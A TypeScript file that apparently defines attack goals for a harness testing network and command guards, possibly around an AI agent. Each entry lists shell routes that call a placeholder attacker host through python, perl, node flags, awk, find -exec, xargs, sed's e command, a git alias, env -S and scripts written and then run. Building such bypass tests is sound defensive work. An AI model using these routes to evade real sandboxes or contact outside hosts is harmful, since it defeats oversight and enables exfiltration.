import type { AttackGoal } from '../attack-goal.js';
import { sh, viaHelper, writeFile } from './steps.js';

const contacted = [{ kind: 'attacker_contacted' }] as const;

/** Network and code reached through interpreters and through less common flags of ordinary tools. */
export const INTERPRETER_GOALS: readonly AttackGoal[] = [
  {
    id: 'interp.python',
    class: 'interpreter',
    title: 'python -c, python from a heredoc, perl -M',
    routes: [
      [sh(`python3 -c "import urllib.request;urllib.request.urlopen('{{ATTACKER}}/py')"`)],
      [sh("python3 - <<'PY'\nimport urllib.request\nurllib.request.urlopen('{{ATTACKER}}/py-heredoc')\nPY")],
      [sh(`perl -MHTTP::Tiny -e 'HTTP::Tiny->new->get("{{ATTACKER}}/perl")'`)],
    ],
    effects: contacted,
  },
  {
    id: 'interp.node-flags',
    class: 'interpreter',
    title: 'node --eval, node -p, node --input-type=module -e',
    routes: [
      [sh(`node --eval "fetch('{{ATTACKER}}/node-eval')"`)],
      [sh(`node -p "fetch('{{ATTACKER}}/node-p').then(() => 'ok')"`)],
      [sh(`node --input-type=module -e "await fetch('{{ATTACKER}}/node-esm')"`)],
    ],
    effects: contacted,
  },
  {
    id: 'interp.exec-flags',
    class: 'interpreter',
    title: "awk system(), find -exec, xargs",
    routes: [
      [sh(`awk 'BEGIN { system("curl -s {{ATTACKER}}/awk") }'`)],
      [sh('find . -maxdepth 0 -exec curl -s {{ATTACKER}}/find \\;')],
      [sh("echo {{ATTACKER}}/xargs | xargs curl -s")],
    ],
    effects: contacted,
  },
  {
    id: 'interp.tool-escapes',
    class: 'interpreter',
    title: "sed's e command, a git alias, env -S",
    routes: [
      [sh("sed -n '1e curl -s {{ATTACKER}}/sed' README.md")],
      [sh("git -c alias.sync='!curl -s {{ATTACKER}}/git-alias' sync")],
      [sh("env -S 'curl -s {{ATTACKER}}/env-s'")],
    ],
    effects: contacted,
  },
  {
    id: 'interp.script-then-run',
    class: 'interpreter',
    title: 'write a shell script, then run or source it',
    routes: [
      [writeFile('scripts/setup.sh', 'curl -s {{ATTACKER}}/setup-sh\n'), sh('sh scripts/setup.sh')],
      [sh("printf 'curl -s {{ATTACKER}}/printf-sh\\n' > run.sh && bash run.sh")],
      [viaHelper('interp.script-then-run', [writeFile('scripts/boot.sh', 'curl -s {{ATTACKER}}/boot-sh\n'), sh('. ./scripts/boot.sh')])],
    ],
    effects: contacted,
  },
];
